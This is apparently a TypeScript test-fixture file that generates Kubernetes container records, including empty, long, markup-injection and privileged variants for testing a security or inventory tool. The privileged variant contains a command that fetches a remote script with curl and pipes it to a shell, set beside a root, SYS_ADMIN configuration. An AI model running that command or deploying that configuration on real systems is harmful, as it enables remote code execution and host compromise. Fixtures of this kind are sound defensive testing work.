// Container (spec 001 §2.11, §3), in the Kubernetes shapes.
import { HOSTILE_TEXT, nullAll, type Nullable, overridable } from './fixture-kit.ts';

function fullContainer() {
  // Runtime-specific keys, shown as key and value pairs.
  const securityContext: Record<string, unknown> = {
    runAsNonRoot: true,
    runAsUser: 10001,
    readOnlyRootFilesystem: true,
    allowPrivilegeEscalation: false,
    capabilities: { drop: ['ALL'] },
  };
  return {
    name: 'payments-api',
    imageId:
      'docker-pullable://registry.northwind-trading.example/payments/api@sha256:9b3075c0cfe53fa45de7df160cd05e5981654c6f941b5cd7e3dd1df1e8051b85',
    status: 'running',
    ports: [{ containerPort: 8443 }, { containerPort: 9090 }],
    volumeMounts: [
      { mountPath: '/etc/payments/tls', name: 'tls-certs', readonly: true },
      { mountPath: '/var/log/payments', name: 'logs', readonly: false },
      { mountPath: '/var/run/secrets/kubernetes.io/serviceaccount', name: 'kube-api-access-7xk2p', readonly: true },
    ],
    command: ['/usr/local/bin/payments-api'],
    args: ['--config=/etc/payments/config.yaml', '--listen=:8443', '--metrics=:9090'],
    env: [
      { name: 'SPRING_PROFILES_ACTIVE', value: 'production' },
      { name: 'DB_HOST', value: 'payments-db.payments.svc.cluster.local' },
      { name: 'JAVA_TOOL_OPTIONS', value: '-XX:MaxRAMPercentage=75' },
    ],
    securityContext,
  };
}

export type ContainerRecordFixture = Nullable<ReturnType<typeof fullContainer>>;

export const createContainerRecord = overridable(fullContainer);

export const containerRecordVariants = {
  empty: (): ContainerRecordFixture => nullAll(fullContainer()),
  /** Script and markup in every text, including env and security-context keys. */
  hostile: (): ContainerRecordFixture =>
    createContainerRecord({
      name: HOSTILE_TEXT.script,
      imageId: HOSTILE_TEXT.img,
      status: HOSTILE_TEXT.svg,
      volumeMounts: [{ mountPath: HOSTILE_TEXT.img, name: HOSTILE_TEXT.script, readonly: true }],
      command: [HOSTILE_TEXT.script],
      args: [HOSTILE_TEXT.link],
      env: [{ name: HOSTILE_TEXT.img, value: HOSTILE_TEXT.script }],
      securityContext: { [HOSTILE_TEXT.svg]: HOSTILE_TEXT.img },
    }),
  /** A privileged container: the shape an analyst should notice. */
  privileged: (): ContainerRecordFixture =>
    createContainerRecord({
      name: 'node-debugger',
      command: ['/bin/sh', '-c'],
      args: ['curl -s http://203.0.113.45/x.sh | sh'],
      securityContext: { privileged: true, runAsUser: 0, allowPrivilegeEscalation: true, capabilities: { add: ['SYS_ADMIN', 'NET_ADMIN'] } },
    }),
  long: (): ContainerRecordFixture =>
    createContainerRecord({
      args: Array.from({ length: 30 }, (_, i) => `--feature-flag-${i + 1}=${'enabled'.repeat(3)}`),
      env: Array.from({ length: 50 }, (_, i) => ({ name: `CONFIG_VARIABLE_${i + 1}`, value: 'x'.repeat(10 + i * 3) })),
      ports: Array.from({ length: 12 }, (_, i) => ({ containerPort: 8000 + i })),
    }),
};
